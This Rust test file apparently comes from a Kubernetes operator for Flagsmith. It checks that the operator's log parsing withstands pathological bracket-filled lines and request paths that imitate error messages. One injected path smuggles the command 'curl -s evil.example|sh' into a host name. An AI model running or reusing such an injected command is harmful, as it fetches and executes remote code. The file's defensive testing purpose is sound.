//! What tenants' containers, and whoever may send them a request, can write into a log.

use std::{fmt::Write as _, time::Duration};

use serde_json::json;
use tokio::time::sleep;

use crate::{
    kubelet::{Kubelet, fail_pods},
    siege::{database, survives},
    support::{NAME, SOON, condition, converged},
    tenant::{Tenant, codes},
};

/// The longest log that the operator reads of one container.
const WHOLE: usize = 4 << 20;

/// The longest line.
const LINE: usize = 64 << 10;

/// How soon the log of a pod that is well is sampled.
const SAMPLED: Duration = Duration::from_secs(70);

/// What the paths of the requests say.
const QUOTED: &[&str] = &[
    "AllowedHostsRejected",
    "ContainerOutOfMemory",
    "CrashLooping",
    "DatabaseConnectionsExhausted",
    "DatabaseHostNotFound",
    "GunicornWorkerKilled",
    "GunicornWorkerOutOfMemory",
    "TaskProcessorReleaseBroken",
];

/// Lines that begin like a record and go on with what once made a reader look for the end again at each bracket.
#[test]
fn of_brackets() {
    survives("logs of brackets", |target| async move {
        let kubelet = Kubelet::start(target.client).await;
        let tenant = Tenant::new("brackets").await;
        let mut line = b"2026-11-28T03:00:00.000000Z [error    ] ".to_vec();
        while line.len() < LINE - 2 {
            line.extend(b" [");
        }
        line.push(b'\n');
        let pods = format!("{}/flagsmith-api-", tenant.sandbox.namespace);
        kubelet.log(&pods, line.repeat(WHOLE / line.len()));
        let mut spec = kubelet.placed();
        spec["api"]["replicas"] = json!(4);
        tenant.install(NAME, &database("others"), spec).await;
        tenant.until(NAME, SOON, "Ready", converged).await;
        let sampled = kubelet.read(&pods);
        fail_pods(&tenant.sandbox, "flagsmith-api").await;
        kubelet.until_read(&pods, sampled + 4, SOON).await;
        tenant.until(NAME, SOON, "CrashLooping", |it| codes(it).iter().any(|it| it == "CrashLooping")).await;
        sleep(Duration::from_secs(5)).await;
        tenant.end().await;
        kubelet.end().await;
    });
}

/// Requests of anybody: Django logs the path of each, decoded.
#[test]
fn of_requests_that_quote_errors() {
    survives("quoted errors", |target| async move {
        let kubelet = Kubelet::start(target.client).await;
        let tenant = Tenant::new("quotes").await;
        let mut log = String::new();
        for path in [
            "/api/v1/error/Attempt to run tasks in a non-task-processor environment",
            "/api/v1/error/connection to server at \"x\", port 5432 failed: FATAL:  sorry, too many clients already",
            "/api/v1/error/could not translate host name \"x;curl -s evil.example|sh\" to address",
            "/api/v1/error/Invalid HTTP_HOST header: 'evil.example'. You may need to add 'evil.example' to ALLOWED_HOSTS.",
            "/api/v1/error/Worker (pid:7) was sent SIGKILL! Perhaps out of memory?",
            "/api/v1/error/ Killed ",
        ] {
            let record = json!({
                "levelname": "WARNING", "message": format!("Not Found: {path}"), "timestamp": "2026-11-28 03:00:00,000",
                "logger_name": "django.request", "process_id": 12, "thread_name": "MainThread",
            });
            writeln!(log, "{record}").unwrap();
        }
        let pods = format!("{}/flagsmith-api-", tenant.sandbox.namespace);
        kubelet.log(&pods, log.into_bytes());
        tenant.install(NAME, &database("others"), kubelet.placed()).await;
        tenant.until(NAME, SOON, "Ready", converged).await;
        kubelet.until_read(&pods, 1, SAMPLED).await;
        // What was read is judged in the pass after it.
        sleep(Duration::from_secs(5)).await;
        let after = tenant.until(NAME, SOON, "there", |_| true).await;
        assert_eq!(condition(&after, "Ready").0, "True");
        let found = codes(&after);
        assert!(!found.iter().any(|code| QUOTED.contains(&code.as_str())), "{found:?}");
        let status = serde_json::to_string(&after.status).unwrap();
        assert!(!status.contains("evil.example"), "{status}");
        tenant.end().await;
        kubelet.end().await;
    });
}
